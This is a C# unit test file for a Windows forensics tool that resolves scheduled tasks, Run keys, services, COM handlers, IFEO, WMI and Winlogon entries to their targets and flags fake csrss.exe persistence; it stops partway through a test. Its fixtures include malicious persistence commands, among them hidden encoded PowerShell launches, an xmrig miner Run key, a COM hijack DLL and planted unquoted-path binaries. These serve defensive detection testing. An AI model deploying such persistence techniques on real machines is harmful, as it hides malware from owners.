using System.Text;
using CsrssForensics.Analysis.Correlation;
using CsrssForensics.Core.Evidence;
using CsrssForensics.Core.Snapshot;
using CsrssForensics.Core.Verdicts;
using static CsrssForensics.Analysis.Tests.Correlation.SnapshotFactory;
using CorrelationModel = CsrssForensics.Analysis.Correlation.Correlation;

namespace CsrssForensics.Analysis.Tests.Correlation;

public sealed class LauncherTests
{
    private const string FakeCsrss = @"C:\Users\alice\AppData\Roaming\Microsoft\csrss.exe";

    private static ResolvedLauncher Single(CorrelationModel correlation) => Assert.Single(correlation.Launchers);

    private static Finding? FindingOf(ResolvedLauncher launcher, string code) =>
        launcher.Findings.SingleOrDefault(f => f.Code == code);

    [Fact]
    public void Seed_example_task_named_like_windows_update_runs_csrss_from_AppData_through_cmd()
    {
        // Given the seed's example: csrss.exe in AppData, started by a scheduled task through cmd /c
        var snapshot = Snapshot(
            files: [File(FakeCsrss, 1)],
            tasks: [Task(@"\Microsoft\Windows\Update\csrss", Exec(@"%SystemRoot%\System32\cmd.exe", $"/c \"{FakeCsrss}\""))]);

        // When
        var correlation = CorrelationModel.Build(snapshot);

        // Then the task resolves to the fake, links to it, and carries the high findings
        var launcher = Single(correlation);
        Assert.Equal("scheduled-task", launcher.Kind);
        Assert.Equal(@"\Microsoft\Windows\Update\csrss", launcher.Name);
        Assert.Equal(@"\Microsoft\Windows\Update", launcher.Location);
        Assert.Equal(FakeCsrss, launcher.Target);
        Assert.Equal("cmd", launcher.Resolution!.Via);
        Assert.Equal(@"C:\Windows\System32\cmd.exe", launcher.Resolution.Executable);
        Assert.Equal(AnomalySeverity.Medium, FindingOf(launcher, LauncherCodes.TaskUserPath)!.Severity);
        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.TaskSystemNameUserPath)!.Severity);
        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.CoreNameTarget)!.Severity);
        Assert.Null(FindingOf(launcher, LauncherCodes.TargetNotCollected));
        Assert.Contains(new EvidenceRef("files.csv", Row: 1), FindingOf(launcher, LauncherCodes.TaskUserPath)!.Evidence);

        var link = Assert.Single(correlation.LaunchersOf(FakeCsrss));
        Assert.Equal("scheduled-task", link.Kind);
        Assert.Equal(FakeCsrss, link.ResolvedTarget);
        Assert.Equal($"%SystemRoot%\\System32\\cmd.exe /c \"{FakeCsrss}\"", link.Command);
        Assert.Equal("action 1", link.Evidence.Detail);
    }

    [Fact]
    public void LaunchersOf_matches_case_insensitively_and_not_the_wrapping_interpreter()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Updater", Exec(@"C:\Windows\System32\cmd.exe", $"/c {FakeCsrss}"))]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Single(correlation.LaunchersOf(FakeCsrss.ToUpperInvariant()));
        Assert.Empty(correlation.LaunchersOf(@"C:\Windows\System32\cmd.exe"));
        Assert.Empty(correlation.LaunchersOf(@"C:\Windows\System32\csrss.exe"));
    }

    [Fact]
    public void Task_cmd_start_links_the_started_executable()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Sync", Exec("cmd", @"/c start """" C:\ProgramData\svc\csrss.exe"))]);

        var correlation = CorrelationModel.Build(snapshot);

        var launcher = Single(correlation);
        Assert.Equal(@"C:\ProgramData\svc\csrss.exe", launcher.Target);
        Assert.Equal("cmd>start", launcher.Resolution!.Via);
        Assert.Single(correlation.LaunchersOf(@"C:\ProgramData\svc\csrss.exe"));
    }

    [Fact]
    public void Task_wscript_links_the_script_it_runs()
    {
        const string Script = @"C:\Users\bob\AppData\Local\Temp\x\run.vbs";
        var snapshot = Snapshot(tasks: [Task(@"\Check", Exec("wscript.exe", $"//B //nologo {Script}"))]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(Script, Single(correlation).Target);
        Assert.Equal("wscript", Single(correlation).Resolution!.Via);
        Assert.Single(correlation.LaunchersOf(Script));
        Assert.Equal(AnomalySeverity.Medium, FindingOf(Single(correlation), LauncherCodes.TaskUserPath)!.Severity);
    }

    [Fact]
    public void Encoded_PowerShell_is_decoded_to_its_target_and_flagged()
    {
        const string Target = @"C:\Users\alice\AppData\Local\Temp\csrss.exe";
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes($"Start-Process '{Target}' -WindowStyle Hidden"));
        var snapshot = Snapshot(tasks: [Task(@"\Microsoft\Windows\Defender\Scan",
            Exec("powershell.exe", $"-NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"))]);

        var correlation = CorrelationModel.Build(snapshot);

        var launcher = Single(correlation);
        Assert.Equal(Target, launcher.Target);
        Assert.Equal("powershell", launcher.Resolution!.Via);
        Assert.Equal(AnomalySeverity.Medium, FindingOf(launcher, LauncherCodes.EncodedPowerShell)!.Severity);
        Assert.NotNull(FindingOf(launcher, LauncherCodes.TaskSystemNameUserPath));
        Assert.Single(correlation.LaunchersOf(Target));
    }

    [Fact]
    public void Encoded_PowerShell_in_a_Run_value_behind_cmd_is_flagged()
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(@"& 'C:\ProgramData\m\xmrig.exe' --donate-level 1"));
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.RunKey, @"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "Upd",
            $"cmd /c powershell -w hidden -enc {encoded}")]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(@"C:\ProgramData\m\xmrig.exe", launcher.Target);
        Assert.NotNull(FindingOf(launcher, LauncherCodes.EncodedPowerShell));
        Assert.NotNull(FindingOf(launcher, LauncherCodes.RunUserPath));
    }

    [Fact]
    public void PowerShell_without_an_encoded_command_is_not_flagged_as_encoded()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Maint", Exec("powershell.exe", @"-ExecutionPolicy Bypass -File C:\Tools\maint.ps1"))]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(@"C:\Tools\maint.ps1", launcher.Target);
        Assert.Null(FindingOf(launcher, LauncherCodes.EncodedPowerShell));
        Assert.Null(FindingOf(launcher, LauncherCodes.TaskUserPath));
    }

    [Fact]
    public void ComHandler_action_records_the_class_id_and_says_it_cannot_be_resolved()
    {
        var action = new TaskAction("ComHandler", null, null, null, "{A6BA00FE-40E8-477C-B713-C64A14F28A99}", "<data/>");
        var snapshot = Snapshot(tasks: [Task(@"\Microsoft\Windows\Maintenance\WinSAT", action)], missing: [BundlePart.Com]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal("{A6BA00FE-40E8-477C-B713-C64A14F28A99}", launcher.Command);
        Assert.Null(launcher.Target);
        var finding = FindingOf(launcher, LauncherCodes.TaskComHandler)!;
        Assert.Contains("COM handler target not resolvable from bundle", finding.Detail, StringComparison.Ordinal);
        Assert.Contains("com.json not collected", finding.Detail, StringComparison.Ordinal);
        Assert.Equal(AnomalySeverity.Info, finding.Severity);
    }

    private const string ThemeClass = "{5D7F4B1C-3A2E-4F60-9B8D-1E2C3A4B5C6D}";
    private const string BobSid = "S-1-5-21-1004336348-1177238915-682003330-1002";
    private const string HijackDll = @"C:\Users\bob\AppData\Local\Microsoft\ThemeSync\csrss.dll";

    private static TaskAction ComHandler(string classId) => new("ComHandler", null, null, null, classId, "<data/>");

    private static ComRegistration MachineCom(string classId, string? inproc, int row, string? localServer = null, string? treatAs = null) =>
        new(classId, "HKLM", null, @"HKLM\SOFTWARE\Classes\CLSID\" + classId, "Theme sync", inproc, "Both", localServer, treatAs,
            new EvidenceRef("com.json", Row: row));

    private static ComRegistration UserCom(string classId, string? inproc, int row, string user = @"CORP\bob", string sid = BobSid) =>
        new(classId, "HKU", user, $@"HKU\{sid}\Software\Classes\CLSID\{classId}", null, inproc, "Apartment", null, null,
            new EvidenceRef("com.json", Row: row));

    [Fact]
    public void ComHandler_action_loads_the_per_user_DLL_that_overrides_the_machine_registration()
    {
        // Given a system-sounding task whose COM class HKLM points at System32 and bob's hive at his AppData
        var snapshot = Snapshot(
            files: [File(@"C:\Windows\System32\themeui.dll", 1), File(HijackDll, 2)],
            tasks: [Task(@"\Microsoft\Windows\Shell\ThemesSync", ComHandler(ThemeClass.ToLowerInvariant()))]) with
        {
            ComRegistrations = [MachineCom(ThemeClass, @"%SystemRoot%\System32\themeui.dll", 0), UserCom(ThemeClass, HijackDll, 1)],
        };

        // When
        var correlation = CorrelationModel.Build(snapshot);

        // Then the task starts bob's DLL, links to it (not to the genuine one), and the override is its own high finding
        var launcher = Single(correlation);
        Assert.Equal(HijackDll, launcher.Target);
        Assert.Equal(ThemeClass.ToLowerInvariant(), launcher.Command);
        Assert.Null(FindingOf(launcher, LauncherCodes.TaskComHandler));
        var hijack = FindingOf(launcher, LauncherCodes.ComHijack)!;
        Assert.Equal(AnomalySeverity.High, hijack.Severity);
        Assert.Contains(HijackDll, hijack.Detail, StringComparison.Ordinal);
        Assert.Contains(@"C:\Windows\System32\themeui.dll", hijack.Detail, StringComparison.Ordinal);
        Assert.Equal<EvidenceRef>(
            [launcher.Evidence with { Detail = "action 1" }, new("com.json", Row: 1), new("com.json", Row: 0), new("files.csv", Row: 2), new("files.csv", Row: 1)],
            hijack.Evidence);
        Assert.Equal(AnomalySeverity.Medium, FindingOf(launcher, LauncherCodes.TaskUserPath)!.Severity);
        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.TaskSystemNameUserPath)!.Severity);

        var link = Assert.Single(correlation.LaunchersOf(HijackDll));
        Assert.Equal(@"\Microsoft\Windows\Shell\ThemesSync", link.Name);
        Assert.Equal(HijackDll, link.ResolvedTarget);
        Assert.Empty(correlation.LaunchersOf(@"C:\Windows\System32\themeui.dll"));
    }

    [Fact]
    public void ComHandler_action_registered_only_by_the_machine_in_System32_resolves_with_no_finding()
    {
        var snapshot = Snapshot(
            files: [File(@"D:\Win\System32\themeui.dll", 1)],
            tasks: [Task(@"\Microsoft\Windows\Shell\ThemesSync", ComHandler(ThemeClass))],
            systemRoot: @"D:\Win") with
        {
            ComRegistrations = [MachineCom(ThemeClass, @"%SystemRoot%\System32\themeui.dll", 0)],
        };

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(@"D:\Win\System32\themeui.dll", launcher.Target);
        Assert.Empty(launcher.Findings);
    }

    [Fact]
    public void ComHandler_bare_dll_name_is_searched_in_System32_and_a_LocalServer32_program_is_the_target_without_a_DLL()
    {
        const string Other = "{11111111-2222-3333-4444-555555555555}";
        var snapshot = Snapshot(
            files: [File(@"C:\Windows\System32\wuaueng.dll", 1), File(@"C:\Program Files\Vendor\server.exe", 2)],
            tasks: [Task(@"\A", ComHandler(ThemeClass)), Task(@"\B", ComHandler(Other))]) with
        {
            ComRegistrations = [MachineCom(ThemeClass, "wuaueng.dll", 0), MachineCom(Other, null, 1, localServer: "\"C:\\Program Files\\Vendor\\server.exe\" -Embedding")],
        };

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(@"C:\Windows\System32\wuaueng.dll", correlation.Launchers.Single(l => l.Name == @"\A").Target);
        Assert.Equal(@"C:\Program Files\Vendor\server.exe", correlation.Launchers.Single(l => l.Name == @"\B").Target);
    }

    [Fact]
    public void ComHandler_registration_pointing_into_a_user_writable_folder_is_a_medium_hijack_finding()
    {
        var snapshot = Snapshot(
            files: [File(@"C:\ProgramData\Sync\handler.dll", 1)],
            tasks: [Task(@"\Vendor\Sync", ComHandler(ThemeClass))]) with
        {
            ComRegistrations = [MachineCom(ThemeClass, @"C:\ProgramData\Sync\handler.dll", 0)],
        };

        var launcher = Single(CorrelationModel.Build(snapshot));

        var hijack = FindingOf(launcher, LauncherCodes.ComHijack)!;
        Assert.Equal(AnomalySeverity.Medium, hijack.Severity);
        Assert.Contains(new EvidenceRef("files.csv", Row: 1), hijack.Evidence);
        Assert.Contains(new EvidenceRef("com.json", Row: 0), hijack.Evidence);
        Assert.Equal(@"C:\ProgramData\Sync\handler.dll", launcher.Target);
    }

    [Fact]
    public void ComHandler_uses_the_task_users_own_override_and_follows_TreatAs()
    {
        const string Alias = "{99999999-8888-7777-6666-555555555555}";
        const string AliceDll = @"C:\Users\alice\AppData\Roaming\x.dll";
        var snapshot = Snapshot(tasks: [Task(@"\T", ComHandler(ThemeClass)) with { RunAsUser = BobSid }]) with
        {
            ComRegistrations =
            [
                MachineCom(ThemeClass, null, 0, treatAs: Alias),
                UserCom(ThemeClass, AliceDll, 1, @"CORP\alice", "S-1-5-21-1-2-3-1001"),
                UserCom(ThemeClass, null, 2) with { TreatAs = Alias },
                MachineCom(Alias, @"C:\Windows\System32\real.dll", 3),
            ],
        };

        var launcher = Single(CorrelationModel.Build(snapshot));

        // bob's own registration applies to his task; it has no server, so its TreatAs class is what loads.
        Assert.Equal(@"C:\Windows\System32\real.dll", launcher.Target);
        // alice's override still shows, as a hijack of the same class.
        Assert.Contains(launcher.Findings, f => f.Code == LauncherCodes.ComHijack && f.Detail.Contains(AliceDll, StringComparison.Ordinal));
    }

    [Fact]
    public void ComHandler_served_by_a_Windows_host_process_is_not_linked_to_that_process()
    {
        var snapshot = Snapshot(
            files: [File(@"C:\Windows\System32\dllhost.exe", 1)],
            tasks: [Task(@"\Microsoft\Windows\Surrogate", ComHandler(ThemeClass))]) with
        {
            ComRegistrations = [MachineCom(ThemeClass, null, 0, localServer: @"%SystemRoot%\System32\dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}")],
        };

        var correlation = CorrelationModel.Build(snapshot);

        var launcher = Single(correlation);
        Assert.Null(launcher.Target);
        Assert.Equal(AnomalySeverity.Info, FindingOf(launcher, LauncherCodes.TaskComHandler)!.Severity);
        Assert.Empty(correlation.LaunchersOf(@"C:\Windows\System32\dllhost.exe"));
    }

    [Fact]
    public void ComHandler_class_missing_from_a_collected_com_json_keeps_the_info_finding()
    {
        var snapshot = Snapshot(tasks: [Task(@"\T", ComHandler(ThemeClass))]) with
        {
            ComRegistrations = [MachineCom("{11111111-2222-3333-4444-555555555555}", @"C:\Windows\System32\x.dll", 0)],
        };

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Null(launcher.Target);
        var finding = FindingOf(launcher, LauncherCodes.TaskComHandler)!;
        Assert.Equal(AnomalySeverity.Info, finding.Severity);
        Assert.Contains("com.json holds no registration", finding.Detail, StringComparison.Ordinal);
        Assert.Null(FindingOf(launcher, LauncherCodes.ComHijack));
    }

    [Fact]
    public void Hidden_task_is_a_finding_and_a_visible_System32_task_has_none()
    {
        var hidden = Task(@"\Hidden", Exec(@"%windir%\system32\sc.exe", "start w32time")) with { Hidden = true };
        var disabled = Task(@"\Disabled", Exec(@"%windir%\system32\sc.exe", "start w32time")) with { Enabled = false };
        var visible = Task(@"\Visible", Exec(@"%windir%\system32\sc.exe", "start w32time"));
        var snapshot = Snapshot(tasks: [hidden, visible, disabled], files: [File(@"C:\Windows\System32\sc.exe", 1)]);

        var correlation = CorrelationModel.Build(snapshot);

        var first = correlation.Launchers.Single(l => l.Name == @"\Hidden");
        var second = correlation.Launchers.Single(l => l.Name == @"\Visible");
        Assert.Equal(@"C:\Windows\system32\sc.exe", second.Target);
        Assert.Equal(LauncherCodes.TaskHidden, Assert.Single(first.Findings).Code);
        Assert.Empty(second.Findings);
        Assert.Equal(LauncherCodes.TaskDisabled, Assert.Single(correlation.Launchers.Single(l => l.Name == @"\Disabled").Findings).Code);
    }

    [Fact]
    public void Environment_variables_expand_with_the_hosts_system_root()
    {
        var snapshot = Snapshot(
            systemRoot: @"D:\WINNT",
            tasks: [Task(@"\T", Exec(@"%SystemRoot%\System32\tool.exe"))],
            autoruns: [Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\drv", "drv", @"\SystemRoot\System32\drivers\drv.sys")]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(@"D:\WINNT\System32\tool.exe", correlation.Launchers.Single(l => l.Kind == "scheduled-task").Target);
        Assert.Equal(@"D:\WINNT\System32\drivers\drv.sys", correlation.Launchers.Single(l => l.Kind == "service").Target);
    }

    [Theory]
    [InlineData(AutorunKind.RunKey, "run-key", LauncherCodes.RunUserPath)]
    [InlineData(AutorunKind.RunOnceKey, "run-once", LauncherCodes.RunUserPath)]
    [InlineData(AutorunKind.PoliciesRun, "policies-run", LauncherCodes.RunUserPath)]
    [InlineData(AutorunKind.StartupFolder, "startup-folder", LauncherCodes.OtherUserPath)]
    [InlineData(AutorunKind.Service, "service", LauncherCodes.ServiceUserPath)]
    public void Autorun_kinds_map_to_launcher_kinds_and_flag_user_folders(AutorunKind kind, string expectedKind, string expectedCode)
    {
        const string Target = @"C:\Users\a\Downloads\csrsss.exe";
        var snapshot = Snapshot(autoruns: [Autorun(kind, @"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "Updater", $"\"{Target}\" -q", @"CORP\a")]);

        var correlation = CorrelationModel.Build(snapshot);

        var launcher = Single(correlation);
        Assert.Equal(expectedKind, launcher.Kind);
        Assert.Equal(Target, launcher.Target);
        Assert.NotNull(FindingOf(launcher, expectedCode));
        Assert.NotNull(FindingOf(launcher, LauncherCodes.TargetNotCollected));
        Assert.Single(correlation.LaunchersOf(Target));
    }

    [Fact]
    public void Run_value_that_names_csrss_is_a_core_name_finding_even_in_System32()
    {
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.RunKey, @"HKLM\Software\Microsoft\Windows\CurrentVersion\Run", "csrss",
            @"C:\Windows\System32\csrss.exe")]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.CoreNameTarget)!.Severity);
        Assert.Null(FindingOf(launcher, LauncherCodes.RunUserPath));
    }

    [Fact]
    public void Service_with_unquoted_spaced_path_resolves_to_the_collected_file()
    {
        const string Image = @"C:\Program Files\Acme Tools\agent svc.exe";
        var snapshot = Snapshot(
            files: [File(Image, 4)],
            autoruns: [Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\AcmeAgent", "AcmeAgent", Image + " -service")]);

        var correlation = CorrelationModel.Build(snapshot);

        var launcher = Single(correlation);
        Assert.Equal(Image, launcher.Target);
        Assert.Equal(AnomalySeverity.Low, FindingOf(launcher, LauncherCodes.ServiceUnquotedPath)!.Severity);
        Assert.Null(FindingOf(launcher, LauncherCodes.ServiceUserPath));
        Assert.Single(correlation.LaunchersOf(Image));
    }

    [Fact]
    public void Service_with_unquoted_spaced_path_resolves_to_a_planted_prefix_program()
    {
        // CreateProcess tries C:\Program.exe before C:\Program Files\...: a planted C:\Program.exe runs instead.
        var snapshot = Snapshot(
            files: [File(@"C:\Program.exe", 2), File(@"C:\Program Files\Acme\agent.exe", 3)],
            autoruns: [Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\Acme", "Acme", @"C:\Program Files\Acme\agent.exe")]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(@"C:\Program.exe", launcher.Target);
        Assert.NotNull(FindingOf(launcher, LauncherCodes.ServiceUnquotedPath));
    }

    [Fact]
    public void Quoted_service_path_and_svchost_group_have_no_findings()
    {
        var snapshot = Snapshot(
            files: [File(@"C:\Windows\System32\svchost.exe", 1), File(@"C:\Program Files\Acme\agent.exe", 2)],
            autoruns:
            [
                Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\Schedule", "Schedule", @"%systemroot%\system32\svchost.exe -k netsvcs -p"),
                Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\Acme", "Acme", "\"C:\\Program Files\\Acme\\agent.exe\" -run", index: 1),
            ]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.All(correlation.Launchers, l => Assert.Empty(l.Findings));
        Assert.Equal(@"C:\Windows\system32\svchost.exe", correlation.Launchers.Single(l => l.Name == "Schedule").Target);
    }

    [Fact]
    public void Service_in_ProgramData_is_a_high_finding()
    {
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.Service, @"HKLM\SYSTEM\CurrentControlSet\Services\WinDefendUpd", "WinDefendUpd",
            @"C:\ProgramData\Microsoft\Windows\svchost.exe")]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.ServiceUserPath)!.Severity);
        Assert.Equal(AnomalySeverity.High, FindingOf(launcher, LauncherCodes.CoreNameTarget)!.Severity);
    }

    [Fact]
    public void IFEO_debugger_on_csrss_is_high_and_links_to_every_csrss_copy()
    {
        var snapshot = Snapshot(autoruns:
        [
            Autorun(AutorunKind.IfeoDebugger, @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\csrss.exe", "Debugger",
                @"C:\Users\Public\dbg.exe"),
            Autorun(AutorunKind.IfeoDebugger, @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe", "Debugger",
                @"C:\Tools\np++.exe", index: 1),
        ]);

        var correlation = CorrelationModel.Build(snapshot);

        var onCsrss = correlation.Launchers.Single(l => l.Name == "csrss.exe");
        var onNotepad = correlation.Launchers.Single(l => l.Name == "notepad.exe");
        Assert.Equal("ifeo", onCsrss.Kind);
        Assert.Equal(AnomalySeverity.High, FindingOf(onCsrss, LauncherCodes.IfeoDebugger)!.Severity);
        Assert.Equal(AnomalySeverity.Medium, FindingOf(onNotepad, LauncherCodes.IfeoDebugger)!.Severity);
        Assert.Equal(@"C:\Users\Public\dbg.exe", onCsrss.Target);
        Assert.Single(correlation.LaunchersOf(@"C:\Windows\System32\csrss.exe"));
        Assert.Single(correlation.LaunchersOf(@"C:\Users\Public\dbg.exe"));
        Assert.Empty(correlation.LaunchersOf(@"C:\Windows\System32\lsass.exe"));
    }

    [Fact]
    public void WMI_command_line_consumer_and_script_consumer_both_resolve()
    {
        var snapshot = Snapshot(autoruns:
        [
            Autorun(AutorunKind.WmiSubscription, @"root\subscription", "Updater", @"C:\ProgramData\wmi\csrss.exe -silent"),
            Autorun(AutorunKind.WmiSubscription, @"root\subscription", "ScriptKid",
                "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"C:\\ProgramData\\wmi\\helper.vbs\", 0", index: 1),
        ]);

        var correlation = CorrelationModel.Build(snapshot);

        var commandLine = correlation.Launchers.Single(l => l.Name == "Updater");
        var script = correlation.Launchers.Single(l => l.Name == "ScriptKid");
        Assert.Equal("wmi", commandLine.Kind);
        Assert.Equal(@"C:\ProgramData\wmi\csrss.exe", commandLine.Target);
        Assert.Equal(@"C:\ProgramData\wmi\helper.vbs", script.Target);
        Assert.NotNull(FindingOf(commandLine, LauncherCodes.WmiConsumer));
        Assert.NotNull(FindingOf(script, LauncherCodes.WmiConsumer));
        Assert.Single(correlation.LaunchersOf(@"C:\ProgramData\wmi\helper.vbs"));
    }

    [Fact]
    public void Startup_shortcut_targets_and_programs_dropped_in_the_Startup_folder_resolve()
    {
        const string Folder = @"C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup";
        var snapshot = Snapshot(autoruns:
        [
            Autorun(AutorunKind.StartupFolder, Folder, "gdlhost.lnk", @"C:\Users\a\AppData\Roaming\Coresource\gdlhost.exe"),
            Autorun(AutorunKind.StartupFolder, Folder, "csrss.exe", null, index: 1),
        ]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(@"C:\Users\a\AppData\Roaming\Coresource\gdlhost.exe", correlation.Launchers.Single(l => l.Name == "gdlhost.lnk").Target);
        var dropped = correlation.Launchers.Single(l => l.Name == "csrss.exe");
        Assert.Equal(Folder + @"\csrss.exe", dropped.Target);
        Assert.All(correlation.Launchers, l => Assert.Equal("startup-folder", l.Kind));
        Assert.NotNull(FindingOf(dropped, LauncherCodes.OtherUserPath));
    }

    [Fact]
    public void Winlogon_lists_become_one_launcher_per_entry_and_only_non_defaults_are_flagged()
    {
        const string Key = @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon";
        var snapshot = Snapshot(
            files: [File(@"C:\Windows\explorer.exe", 1), File(@"C:\Windows\System32\userinit.exe", 2), File(@"C:\Users\Public\csrss.exe", 3)],
            autoruns:
        [
            Autorun(AutorunKind.WinlogonUserinit, Key, "Userinit", @"C:\Windows\system32\userinit.exe,C:\Users\Public\csrss.exe,"),
            Autorun(AutorunKind.WinlogonShell, Key, "Shell", "explorer.exe", index: 1),
        ]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(3, correlation.Launchers.Count);
        Assert.All(correlation.Launchers, l => Assert.Equal("winlogon", l.Kind));
        var shell = correlation.Launchers.Single(l => l.Name == "Shell");
        Assert.Equal(@"C:\Windows\explorer.exe", shell.Target);
        Assert.Empty(shell.Findings);
        var userinit = correlation.Launchers.Single(l => string.Equals(l.Target, @"C:\Windows\System32\userinit.exe", StringComparison.OrdinalIgnoreCase));
        Assert.Null(FindingOf(userinit, LauncherCodes.WinlogonNonDefault));
        var planted = correlation.Launchers.Single(l => l.Target == @"C:\Users\Public\csrss.exe");
        Assert.Equal(AnomalySeverity.High, FindingOf(planted, LauncherCodes.WinlogonNonDefault)!.Severity);
        Assert.Single(correlation.LaunchersOf(@"C:\Users\Public\csrss.exe"));
    }

    [Fact]
    public void AppInit_DLLs_become_one_launcher_per_dll()
    {
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.AppInitDlls, @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows",
            "AppInit_DLLs", @"C:\ProgramData\a.dll, C:\Tools\b.dll")]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(2, correlation.Launchers.Count);
        Assert.All(correlation.Launchers, l => Assert.Equal("appinit", l.Kind));
        Assert.All(correlation.Launchers, l => Assert.NotNull(FindingOf(l, LauncherCodes.AppInitDll)));
        Assert.Equal([@"C:\ProgramData\a.dll", @"C:\Tools\b.dll"], correlation.Launchers.Select(l => l.Target).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void Rundll32_task_links_the_dll()
    {
        var snapshot = Snapshot(tasks: [Task(@"\Telemetry", Exec(@"C:\Windows\System32\rundll32.exe", @"C:\Users\a\AppData\Local\x\core.dll,Start"))]);

        var correlation = CorrelationModel.Build(snapshot);

        Assert.Equal(@"C:\Users\a\AppData\Local\x\core.dll", Single(correlation).Target);
        Assert.Single(correlation.LaunchersOf(@"C:\Users\a\AppData\Local\x\core.dll"));
    }

    [Fact]
    public void User_variables_expand_from_the_tasks_user_or_from_the_one_matching_file()
    {
        var snapshot = Snapshot(
            files: [File(@"C:\Users\bob\AppData\Roaming\svc\csrss.exe", 1)],
            tasks:
            [
                Task(@"\ByUser", Exec(@"%APPDATA%\svc\csrss.exe")) with { RunAsUser = @"CORP\alice" },
                Task(@"\NoUser", Exec(@"%APPDATA%\svc\csrss.exe")),
            ]);

        var correlation = CorrelationModel.Build(snapshot);

        // alice's profile has no such file and bob's does: the unique match on disk is the better answer.
        Assert.Equal(@"C:\Users\bob\AppData\Roaming\svc\csrss.exe", correlation.Launchers.Single(l => l.Name == @"\NoUser").Target);
        Assert.Equal(@"C:\Users\bob\AppData\Roaming\svc\csrss.exe", correlation.Launchers.Single(l => l.Name == @"\ByUser").Target);
        Assert.Equal(2, correlation.LaunchersOf(@"C:\Users\bob\AppData\Roaming\svc\csrss.exe").Length);
    }

    [Fact]
    public void User_variable_expands_to_the_users_profile_when_no_file_matches()
    {
        var snapshot = Snapshot(tasks: [Task(@"\ByUser", Exec(@"%LOCALAPPDATA%\x\a.exe")) with { RunAsUser = @"CORP\alice" }]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(@"C:\Users\alice\AppData\Local\x\a.exe", launcher.Target);
        Assert.NotNull(FindingOf(launcher, LauncherCodes.TaskUserPath));
    }

    [Fact]
    public void Bare_program_name_resolves_through_the_working_directory()
    {
        var snapshot = Snapshot(
            files: [File(@"C:\ProgramData\Intel\csrss.exe", 1)],
            tasks: [Task(@"\Intel", Exec("csrss.exe", null, @"C:\ProgramData\Intel"))]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Equal(@"C:\ProgramData\Intel\csrss.exe", launcher.Target);
    }

    [Fact]
    public void Target_missing_from_files_csv_is_noted_as_not_collected()
    {
        var snapshot = Snapshot(
            missing: [BundlePart.Files],
            tasks: [Task(@"\A", Exec(@"C:\Tools\a.exe"))]);

        var finding = FindingOf(Single(CorrelationModel.Build(snapshot)), LauncherCodes.TargetNotCollected)!;

        Assert.Equal(AnomalySeverity.Info, finding.Severity);
        Assert.Contains("files.csv is not in the bundle", finding.Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("\"")]
    [InlineData("\"\" \"\"")]
    [InlineData("cmd /c")]
    [InlineData("powershell -enc !!!notbase64!!!")]
    public void Hostile_or_empty_commands_give_an_unresolved_finding_not_an_exception(string? command)
    {
        var snapshot = Snapshot(autoruns: [Autorun(AutorunKind.RunKey, @"HKCU\Run", "x", command)]);

        var launcher = Single(CorrelationModel.Build(snapshot));

        Assert.Null(launcher.Target);
        Assert.NotNull(FindingOf(launcher, LauncherCodes.TargetUnresolved));
    }

    [Fact]
    public void Launchers_are_in_a_stable_order_whatever_the_input_order()
    {
        AutorunEntry[] entries =
        [
            Autorun(AutorunKind.Service, @"HKLM\S\b", "b", @"C:\b.exe", index: 0),
            Autorun(AutorunKind.RunKey, @"HKLM\R", "z", @"C:\z.exe", index: 1),
            Autorun(AutorunKind.RunKey, @"HKLM\R", "a", @"C:\a.exe", index: 2),
        ];
        ScheduledTask[] tasks = [Task(@"\T2", Exec(@"C:\t2.exe")), Task(@"\T1", Exec(@"C:\t1.exe"))];

